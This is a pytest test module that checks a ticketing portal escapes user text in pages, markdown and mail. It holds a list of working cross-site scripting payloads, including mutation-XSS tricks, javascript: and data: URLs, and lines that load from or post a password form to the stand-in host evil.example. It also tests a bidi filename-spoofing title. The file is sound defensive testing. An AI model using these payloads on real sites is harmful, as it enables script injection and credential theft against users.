"""What people write is text: whatever markup or address it holds, nothing of it runs in a page or a mail."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entitlements.markdown import rendered
from notifications import mail_look
from tests import factories as make
from tests.tickets.portal import company, get, log, signed_in
from tickets.conversation import written
from tickets.mailbox.bodies import from_html
from tickets.models import Incident

# Scripts, handlers, addresses, styles, forms, frames, and mutations, in which the repairs of a browser bring dead
# text to life as a tag.
SAMPLES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<img srcset='https://evil.example/x 1x' src='https://evil.example/pixel'>",
    "<picture><source srcset='https://evil.example/x'></picture>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example'><input name=password type=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='x'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    '"><img src=x onerror=alert(1)>',
    "{{ request.user }}{% load i18n %}",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "javascript:alert(1) https://good.example/?q=<script>alert(1)</script>",
    'https://good.example/" onmouseover="alert(1)',
]

ALLOWED = {
    "a", "b", "blockquote", "body", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class Live(HTMLParser):
    """What of a page would be more than text: tags beyond those of a text, handlers, addresses that run or load."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.wrong = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("srcset", "srcdoc", "formaction", "action", "src"):
                self.wrong.append(name)
            if name == "href" and not address.startswith(("http://", "https://", "mailto:", "/", "#")):
                self.wrong.append(address)
            if name == "style" and ("url(" in address or "expression" in address or "@import" in address):
                self.wrong.append(address)


def live(html):
    reader = Live()
    reader.feed(html)
    reader.close()
    return reader.wrong


def test_the_reader_of_this_test_sees_what_is_live():
    assert all(live(sample) for sample in SAMPLES[:20])


@pytest.mark.parametrize("sample", SAMPLES)
def test_a_message_a_policy_and_a_mail_of_ours_hold_nothing_live(sample):
    assert live(str(written(sample))) == []
    assert live(str(rendered(sample))) == []
    assert live(mail_look.html(sample)) == []


@pytest.mark.parametrize("sample", SAMPLES)
def test_a_mail_in_html_becomes_text_that_holds_nothing_live(sample):
    said = from_html(f"<html><body>Before {sample} after</body></html>")
    assert live(str(written(said))) == []
    assert "evil.example" not in said or "https://evil.example" not in str(live(said))


@given(st.text(max_size=200))
def test_whatever_is_written_nothing_is_live(text):
    for html in (str(written(text)), str(rendered(text)), str(written(from_html(text)))):
        assert live(html) == []


@given(st.lists(st.sampled_from(SAMPLES), min_size=1, max_size=4))
def test_nor_are_several_of_them_together(samples):
    text = "".join(samples)
    for html in (str(written(text)), str(rendered(text)), str(written(from_html(text)))):
        assert live(html) == []


@pytest.mark.django_db
def test_on_the_page_of_an_incident_they_are_text():
    client = signed_in(make.contact(company()))
    log(client, title="<script>alert(1)</script>", description="\n".join(SAMPLES))
    incident = Incident.objects.get()
    for reader in (client, signed_in(make.staff())):
        address = f"/incidents/{incident.pk}/" if reader is client else f"/desk/incidents/{incident.pk}/"
        page = get(reader, address).content.decode()
        assert "<script>alert(1)" not in page
        assert "onerror=alert(1)>" not in page.replace("&gt;", "")
        assert "&lt;script&gt;alert(1)" in page


@pytest.mark.django_db
def test_a_title_turns_nothing_of_what_stands_beside_it():
    client = signed_in(make.contact(company()))
    log(client, title="Invoice \u202efdp.exe\u2066 \u05d0\u200f!")
    assert Incident.objects.get().title == "Invoice fdp.exe \u05d0\u200f!"


@pytest.mark.django_db
def test_a_message_of_which_nothing_is_seen_is_empty():
    client = signed_in(make.contact(company()))
    assert log(client, description="\u200b\u2060").status_code == 422
    assert not Incident.objects.exists()
